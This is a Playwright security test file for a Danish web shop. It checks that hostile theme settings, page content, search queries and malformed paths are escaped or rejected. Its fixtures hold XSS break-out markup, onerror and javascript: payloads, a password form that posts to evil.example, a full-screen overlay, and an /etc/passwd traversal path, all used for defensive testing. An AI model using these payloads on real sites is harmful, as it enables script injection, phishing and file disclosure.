import type { Page } from '@playwright/test'
import { toUrl, desktop, expect, expectBrowserError, test } from './fixtures.ts'
import { queryDatabase, changeSettings } from './database.ts'

test.use({ viewport: desktop })

const shop = 'keramik.localhost'

test('a hostile theme is ignored and the shop falls back to the default theme', async ({
  page,
}) => {
  const getIncidents = await recordIncidents(page)
  const { theme } = await getSettings()
  await setTheme(hostileTheme)
  try {
    await page.goto(toUrl(shop))
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'default')
    expect(await page.locator('head script:not([src]), head style').allInnerTexts()).not.toContain(
      'evil',
    )
    expect(getIncidents()).toEqual([])
  } finally {
    await setTheme(theme)
  }
})

const breakOutMarkup =
  '</style></script><script>alert(1)</script><img src=//evil.example onerror=alert(1)>'
const hostileTheme = {
  type: breakOutMarkup,
  colors: {
    primary: `red}body{display:none}${breakOutMarkup}`,
    secondary: 'url(//evil.example/a)',
    complementary: { dark: 'expression(alert(1))' },
    background: [breakOutMarkup],
  },
  typography: { headingFont: `x;src:url(//evil.example/font)${breakOutMarkup}`, bodyFont: {} },
  hero: { defaultImage: 'javascript:alert(1)', pattern: breakOutMarkup },
  components: {
    productCard: { style: breakOutMarkup },
    navigation: { style: 7, position: breakOutMarkup },
  },
  favicon: `data:text/html,${breakOutMarkup}`,
}

test('content of an editable page cannot cover the rest of the shop', async ({ page }) => {
  const getIncidents = await recordIncidents(page)
  const { page_content } = await getSettings()
  const about = { title: 'Om <script>alert(1)</script>', content: overlay }
  await changeSettings(shop, 'page_content', { about })
  const text = page.locator('.rich-text')
  // Written by SQL, so the shop knows of it a moment later.
  await expect(async () => {
    await page.goto(toUrl(shop, '/about'))
    await expect(text).toContainText('Skærm', { timeout: 1_000 })
  }).toPass()
  await changeSettings(shop, 'page_content', page_content)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Om <script>alert(1)</script>')
  const escapedCount = await text.evaluate((container) => {
    const box = container.getBoundingClientRect()
    return [...container.querySelectorAll('*')].filter((element) => {
      const { left, right, position } = {
        ...getSides(element),
        position: getComputedStyle(element).position,
      }
      return position !== 'static' || left < box.left - 1 || right > box.right + 1
    }).length
    function getSides(element: Element) {
      const { left, right } = element.getBoundingClientRect()
      return { left, right }
    }
  })
  expect(escapedCount).toBe(0)
  expect(await text.locator('.cookie-banner, .sheet, .card-more, .fixed, .button').count()).toBe(0)
  await page.getByRole('button', { name: 'Kurv' }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
  expect(getIncidents()).toEqual([])
})

const overlay = `
  <div style="position:fixed;inset:0;z-index:99999;background:url(//evil.example/b);margin:-900px"
    class="fixed inset-0 z-30 cookie-banner sheet card-more pending">Skærm</div>
  <p class="button button-primary" onclick="alert(1)" style="transform:scale(90);width:9000px">Køb</p>
  <a href="javascript:alert(1)">a</a><svg onload="alert(1)"></svg><iframe src="//evil.example"></iframe>
  <form action="//evil.example"><input name="password"></form><style>*{display:none}</style>`

test('a search for a script finds nothing and runs nothing', async ({ page }) => {
  const getIncidents = await recordIncidents(page)
  const query = '"><img src=//evil.example onerror=alert(1)><script>alert(1)</script>'
  await page.goto(toUrl('localhost', `/?q=${encodeURIComponent(query)}`))
  await expect(page.getByPlaceholder('Søg efter produkter...')).toHaveValue(query)
  await expect(page.getByText('Ingen produkter matcher din søgning')).toBeVisible()
  expect(getIncidents()).toEqual([])

  // The search form cuts a query at 100 characters.
  await page.getByPlaceholder('Søg efter produkter...').selectText()
  await page.keyboard.insertText('æ'.repeat(9_000))
  await page.keyboard.press('Enter')
  await expect(page).toHaveURL(/\?q=(%C3%A6){100}$/)
  await expect(page.getByText('Ingen produkter matcher din søgning')).toBeVisible()
})

test('invalid paths are rejected and the shop keeps working', async ({ page, browserErrors }) => {
  const getIncidents = await recordIncidents(page)
  const responses: [string, number][] = []
  for (const [path] of rejectedPaths) {
    const response = await page.goto(toUrl('localhost', path))
    responses.push([path, response?.status() ?? 0])
  }
  expect(responses).toEqual(rejectedPaths)
  await page.goto(toUrl('localhost'))
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Taskehuset')
  await expectBrowserError(browserErrors, /40[04]/)
  expect(getIncidents()).toEqual([])
})

const rejectedPaths: [string, number][] = [
  [`/?q=${'a'.repeat(10_000)}`, 400],
  ['/%E0%A4%A', 400],
  ['/products/%zz', 400],
  ['/products/pyramid-bag', 404],
  ['/category/kopper', 404],
  ['/products/..%2f..%2fetc%2fpasswd', 400],
  ['/products/%3Cscript%3Ealert(1)%3C', 404],
]

/** Records dialogs, alerts and requests to the attacker's host. */
async function recordIncidents(page: Page): Promise<() => string[]> {
  const incidents: string[] = []
  await page.exposeFunction('alert', () => incidents.push('alert'))
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => incidents.push(dialog.message())))
  page.on('request', (request) => {
    if (new URL(request.url()).host === 'evil.example') incidents.push(request.url())
  })
  return () => incidents
}

type Settings = { theme: object; page_content: object }

async function getSettings(): Promise<Settings> {
  const [settings] = await queryDatabase<Settings>(
    `select t.theme, t.page_content from store_settings t
     join stores s on s.id = t.store_id where s.domain = $1`,
    [shop],
  )
  if (!settings) throw new Error('the shop has no settings')
  return settings
}

async function setTheme(theme: object): Promise<void> {
  await queryDatabase(
    `update store_settings t set theme = $1::jsonb from stores s
     where s.id = t.store_id and s.domain = $2`,
    [JSON.stringify(theme), shop],
  )
}

test('Trusted Types block assigning plain text as markup', async ({ page, browserErrors }) => {
  await page.goto(toUrl('localhost'))
  const assignment = page.evaluate(() => {
    document.body.innerHTML = '<p>Hej</p>'
  })
  await expect(assignment).rejects.toThrow('TrustedHTML')
  await expectBrowserError(browserErrors, /TrustedHTML/)
})
